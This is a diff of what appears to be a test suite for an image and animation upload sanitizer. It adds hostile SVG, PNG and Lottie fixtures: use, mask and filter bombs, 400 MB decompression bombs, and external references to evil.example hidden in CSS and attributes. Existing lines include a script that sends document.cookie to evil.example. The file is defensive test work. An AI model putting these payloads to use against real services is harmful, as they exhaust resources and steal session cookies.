@@ -26,9 +26,20 @@ const useBomb = `<defs><g id="u0"><rect width="9" height="9"/></g>${Array.from(
   (_, i) => `<g id="u${i + 1}">${repeated(`<use href="#u${i}"/>`, 10)}</g>`,
 ).join('')}</defs><use href="#u20"/>`;
 
+/** Hidden from librsvg, which knows no `@media`; a browser would draw ten million rectangles. */
+const maskBomb = `<style>.b{display:none}@media all{.b{display:inline}}</style>${Array.from(
+  { length: 7 },
+  (_, i) =>
+    `<mask id="m${i}">${repeated(`<rect width="100" height="100" fill="#fff" mask="url(#m${i - 1})"/>`, 10)}</mask>`,
+).join('')}<g class="b"><rect width="99" height="99" mask="url(#m6)"/></g>`;
+
 const script = '<script>fetch("http://evil.example/"+document.cookie)</script>';
 const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"';
 const rasterBomb = deflateSync(Buffer.alloc(1000)).toString('base64');
+
+/** A filter of so many steps, each of which keeps its result. */
+const filter = (steps: number) =>
+  `<filter id="f" x="0" y="0" width="1" height="1">${Array.from({ length: steps }, (_, i) => `<feOffset dx="1" in="SourceGraphic" result="r${i}"/>`).join('')}</filter><rect width="99" height="99" filter="url(#f)"/>`;
 
 const SVG_CLEANED: [string, () => Buffer][] = [
   ['script element', inside(script)],
@@ -125,6 +136,15 @@ const SVG_CLEANED: [string, () => Buffer][] = [
     inside(repeated('<path d="M1 1L2 2" style="fill:#fff" class="a"/>', 9990)),
   ],
   ['200 KB of CSS', inside(`<style>${repeated('.a{fill:red}', 17_000)}</style>`)],
+  ['a filter of a hundred results', inside(filter(100))],
+  [
+    'a hundred filters of a hundred results',
+    inside(`${repeated('<g filter="url(#f)">', 90)}${filter(100)}${repeated('</g>', 90)}`),
+  ],
+  ['20,000 characters of text', inside(`<text>${repeated('<tspan>Wide</tspan>', 5000)}</text>`)],
+  ['a mask in an animation', inside('<style>@keyframes k{from{mask:url(//evil.example#m)}}</style>')],
+  ['a transform with an address', inside('<rect transform="url(http://evil.example/x)"/>')],
+  ['a style in a CDATA section', inside('<style><![CDATA[.a{fill:url(//evil.example/x)}]]></style>')],
   ['audio and video of XHTML', inside(`<video ${xhtml} src="http://evil.example/x" autoplay=""/>`)],
   [
     'handler element',
@@ -166,6 +186,13 @@ const SVG_REFUSED: [string, () => Buffer][] = [
   ['10,000 levels', inside(repeated('<g>', 10_000) + repeated('</g>', 10_000))],
   ['50,000 attributes', inside('', Array.from({ length: 50_000 }, (_, i) => `a${i}=""`).join(' '))],
   ['a bomb of use elements', inside(useBomb)],
+  ['a filter of 200 results', inside(filter(200))],
+  ['a filter of 1,500 results', inside(filter(1500))],
+  ['two million characters of text', inside(`<text>${repeated('Wide', 500_000)}</text>`)],
+  ['eight megabytes once it is written anew', inside(`<desc>${repeated('>', 2_000_000)}</desc>`)],
+  ['100,000 x 1', text(svg().toString().replace('width="100" height="100"', 'width="100000" height="1"'))],
+  ['a bomb of masks', inside(maskBomb)],
+  ['a prefix', text('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:circle r="9"/></s:svg>')],
   ['two million characters of CSS', inside(`<style>${repeated('.a{fill:red}', 160_000)}</style>`)],
   ['no size', text('<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>')],
 ];
@@ -204,10 +231,17 @@ const PNG_CLEANED: [string, () => Buffer][] = [
       ]),
   ],
   ['24 million pixels of one colour', () => png({ width: 6000, height: 4000 })],
+  ['24 million pixels of one colour, interlaced', () => plain(6000, 4000, { interlaced: true })],
+  ['12 million pixels of 16 bits, interlaced', () => plain(4000, 3000, { depth: 16, interlaced: true })],
+  ['metadata: text that inflates to 400 MB', () => png({ chunks: [['iTXt', compressedText()]] })],
+  ['metadata: colours that inflate to 400 MB', () => png({ chunks: [['iCCP', profileBomb()]] })],
 ];
 
 const PNG_REFUSED: [string, () => Buffer][] = [
   ['nothing', text('')],
+  ['24 million pixels of 16 bits, interlaced', () => plain(6000, 4000, { depth: 16, interlaced: true })],
+  ['24,000,000 x 1', () => png({ width: 24_000_000, height: 1 })],
+  ['1 x 24,000,000', () => png({ width: 1, height: 24_000_000 })],
   ['the signature only', () => png().subarray(0, 8)],
   ['truncated in the header', () => png().subarray(0, 20)],
   ['truncated in the pixels', () => png({ width: 500, height: 500 }).subarray(0, 300)],
@@ -367,8 +401,17 @@ const LOTTIE_REFUSED: [string, () => Buffer][] = [
           .replace('"layers":', `"deep":${repeated('[', 100_000)}${repeated(']', 100_000)},"layers":`),
       ),
   ],
+  ['numbers that are four times as long once they are written anew', longNumbers],
   ['a million pixels wide', () => lottie({ w: 1_000_000 })],
 ];
+
+function longNumbers(): Buffer {
+  return Buffer.from(
+    lottie({ z: 0 })
+      .toString()
+      .replace('"z":0', `"z":[${repeated('1e20,', 205_000)}0]`),
+  );
+}
 
 function animated(): Buffer {
   const control = Buffer.alloc(8);
@@ -389,10 +432,28 @@ function flipped(bytes: Buffer, at: number): Buffer {
   return bytes;
 }
 
+/** A PNG of nothing but transparency. */
+function plain(width: number, height: number, { depth = 8, interlaced = false }): Buffer {
+  const head = header(width, height);
+  head.set([depth, 6, 0, 0, interlaced ? 1 : 0], 8);
+  // The passes of an interlaced image have two rows for each that it has, at most.
+  const bytes = ((width * 4 * depth) / 8) * height + 2 * height + 64;
+  return pngOf([
+    ['IHDR', head],
+    ['IDAT', deflateSync(Buffer.alloc(bytes))],
+    ['IEND', Buffer.alloc(0)],
+  ]);
+}
+
+const compressedText = () => Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\x01\0\0\0'), bomb()]);
+const profileBomb = () => Buffer.concat([Buffer.from('p\0\0'), bomb()]);
+
 /** Not half a megabyte that inflates to 400. */
 function bomb(): Buffer {
-  return deflateSync(Buffer.alloc(400_000_000));
+  bombed ??= deflateSync(Buffer.alloc(400_000_000));
+  return bombed;
 }
+let bombed: Buffer | undefined;
 
 const listed = (kind: UploadKind, outcome: HostileFile['outcome'], files: [string, () => Buffer][]) =>
   files.map(([name, bytes]): HostileFile => ({ name: `${kind}: ${name}`, kind, bytes, outcome }));
